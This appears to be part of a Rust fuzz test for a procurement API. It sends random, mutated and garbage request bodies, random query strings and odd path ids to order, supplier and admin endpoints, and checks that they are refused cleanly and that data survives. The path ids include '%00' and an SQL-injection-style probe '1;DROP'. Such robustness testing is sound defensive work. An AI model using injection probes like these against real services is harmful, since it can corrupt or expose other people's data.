    let (sid, ssecret) = issue_client(
        &app,
        centrale::parties::Role::Supplier,
        Some(lot.suppliers[0]),
    )
    .await;
    let supplier = token(&app, &sid, &ssecret).await;
    let (aid, asecret) = issue_client(&app, centrale::parties::Role::Admin, None).await;
    let admin = token(&app, &aid, &asecret).await;
    // One real order, so supplier answers reach the code behind the lookups.
    let (status, placed) = api(
        &app,
        reqwest::Method::POST,
        "/api/v1/orders",
        &institution,
        Some(serde_json::json!({ "delivery_address_id": buyer.address_id, "lines": [{ "sku": "FUZZ-1", "quantity": 1 }] })),
    )
    .await;
    assert_eq!(status, 201, "{placed}");
    let order_id = placed["orders"][0]["id"].as_i64().unwrap();
    let lot_id = lot.lot_id;

    use reqwest::Method;
    let endpoints: Vec<(Method, String, Option<&str>, serde_json::Value)> = vec![
        (
            Method::POST,
            "/api/v1/orders".into(),
            Some(&institution),
            serde_json::json!({ "delivery_address_id": buyer.address_id, "buyer_reference": "PO-1", "lines": [{ "sku": "FUZZ-1", "quantity": 1 }] }),
        ),
        (
            Method::POST,
            format!("/api/v1/supplier/orders/{order_id}/decline"),
            Some(&supplier),
            serde_json::json!({ "reason_code": "out_of_stock", "reason": "none" }),
        ),
        (
            Method::POST,
            format!("/api/v1/supplier/orders/{order_id}/accept"),
            Some(&supplier),
            serde_json::json!({ "expected_delivery": "2026-03-13", "supplier_reference": "S-1", "refused_skus": [] }),
        ),
        (
            Method::PUT,
            "/api/v1/supplier/availability".into(),
            Some(&supplier),
            serde_json::json!({ "items": [{ "sku": "FUZZ-1", "available": false }] }),
        ),
        (
            Method::PUT,
            "/api/v1/supplier/webhook".into(),
            Some(&supplier),
            serde_json::json!({ "url": "https://hooks.example/centrale" }),
        ),
        (
            Method::POST,
            "/api/v1/admin/lots".into(),
            Some(&admin),
            serde_json::json!({ "reference": "LOT-NEW", "category": "fixture", "kind": "goods", "title_fr": "T", "title_nl": "T", "valid_from": "2026-01-01", "valid_until": "2026-12-31" }),
        ),
        (
            Method::POST,
            format!("/api/v1/admin/lots/{lot_id}/products"),
            Some(&admin),
            serde_json::json!({ "sku": "FUZZ-NEW", "name_fr": "N", "name_nl": "N", "packaging_fr": "P", "packaging_nl": "P", "unit_code": "BX", "vat_class": "standard" }),
        ),
        (
            Method::PUT,
            format!("/api/v1/admin/lots/{lot_id}/cascade"),
            Some(&admin),
            serde_json::json!({ "suppliers": [{ "rank": 1, "supplier_id": lot.suppliers[0] }] }),
        ),
        (
            Method::POST,
            "/api/v1/admin/api-clients".into(),
            Some(&admin),
            serde_json::json!({ "role": "institution", "for_id": buyer.institution_id, "name": "fuzz" }),
        ),
        (
            Method::POST,
            "/api/v1/admin/suppliers".into(),
            Some(&admin),
            serde_json::json!({ "enterprise_number": helpers::enterprise_number(77), "name": "F", "email": "f@f.example", "language": "fr" }),
        ),
        (
            Method::POST,
            "/api/v1/memberships".into(),
            None,
            serde_json::json!({ "institution": {}, "contact": {}, "buyers": [] }),
        ),
    ];
    let mut runner = proptest::test_runner::TestRunner::deterministic();
    let garbage = proptest::collection::vec(proptest::prelude::any::<u8>(), 0..300);
    let per_endpoint = cases();
    let mut sent = 0u64;
    let mut refused = 0u64;
    for (method, path, bearer, valid) in &endpoints {
        let mutate = mutated(valid.clone());
        for case in 0..per_endpoint {
            let (body, content_type): (Vec<u8>, &str) = match case % 4 {
                0 => (
                    sample(&any_json(), &mut runner).to_string().into_bytes(),
                    "application/json",
                ),
                1 | 2 => (
                    sample(&mutate, &mut runner).to_string().into_bytes(),
                    "application/json",
                ),
                _ => (
                    sample(&garbage, &mut runner),
                    if case % 8 == 3 {
                        "application/json"
                    } else {
                        "text/plain"
                    },
                ),
            };
            let mut request = app
                .client
                .request(method.clone(), app.url(path))
                .header("Content-Type", content_type)
                .body(body.clone());
            if let Some(bearer) = bearer {
                request = request.bearer_auth(bearer);
            }
            let response = request.send().await.expect("answer");
            let label = format!("{method} {path} with {}", String::from_utf8_lossy(&body));
            if assert_handled(&label, response).await >= 400 {
                refused += 1;
            }
            sent += 1;
        }
    }
    // Query strings on every listing.
    let listings: Vec<(&str, Option<&str>)> = vec![
        ("/api/v1/catalogue/products", None),
        ("/api/v1/catalogue/lots", None),
        ("/api/v1/open-data/ocds", None),
        ("/api/v1/orders", Some(&institution)),
        ("/api/v1/supplier/orders", Some(&supplier)),
        ("/api/v1/supplier/webhook/deliveries", Some(&supplier)),
        ("/api/v1/admin/audit", Some(&admin)),
        ("/api/v1/admin/memberships", Some(&admin)),
        ("/api/v1/admin/reports/monthly", Some(&admin)),
        ("/api/v1/admin/webhook-deliveries", Some(&admin)),
        ("/api/v1/admin/api-clients", Some(&admin)),
    ];
    for (path, bearer) in &listings {
        for _ in 0..per_endpoint {
            let query = sample(&any_query(), &mut runner);
            let mut request = app.client.get(format!("{}?{query}", app.url(path)));
            if let Some(bearer) = bearer {
                request = request.bearer_auth(bearer);
            }
            let response = request.send().await.expect("answer");
            if assert_handled(&format!("GET {path}?{query}"), response).await >= 400 {
                refused += 1;
            }
            sent += 1;
        }
    }
    // Odd ids in paths.
    for id in [
        "0",
        "-1",
        "99999999999999999999",
        "1.5",
        "%00",
        "abc",
        "1;DROP",
        "%F0%9F%A7%AA",
    ] {
        for (path, bearer) in [
            (format!("/api/v1/orders/{id}"), &institution),
            (format!("/api/v1/supplier/orders/{id}"), &supplier),
            (format!("/api/v1/admin/lots/{id}"), &admin),
        ] {
            let response = app
                .client
                .get(app.url(&path))
                .bearer_auth(bearer)
                .send()
                .await
                .unwrap();
            assert_handled(&path, response).await;
            sent += 1;
        }
    }
    assert!(
        refused > sent / 2,
        "most hostile requests are refused: {refused} of {sent}"
    );
    // The shop is still up and its data intact.
    assert_eq!(app.get("/healthz").await.status(), 200);
    let (status, order) = api(
        &app,
        Method::GET,
        &format!("/api/v1/orders/{order_id}"),
        &institution,
        None,
    )
    .await;
    assert_eq!(status, 200);
    assert_eq!(order["id"], order_id);
    soak::record(&Outcome {
        scenario: "random JSON bodies and query strings".into(),
        backend: backend_name(backend),
        faults: sent,
        requests: sent + 2,
        checked: sent,
        lost: 0,
        duplicated: 0,
    });
}

on_both_backends!(
    over_size_bodies_get_413_in_the_shop_format,
    slow_clients_are_cut_off_with_408,
    probes_are_stored_as_typed_and_shown_escaped,
    random_bodies_and_queries_get_4xx_problems_never_5xx,
);
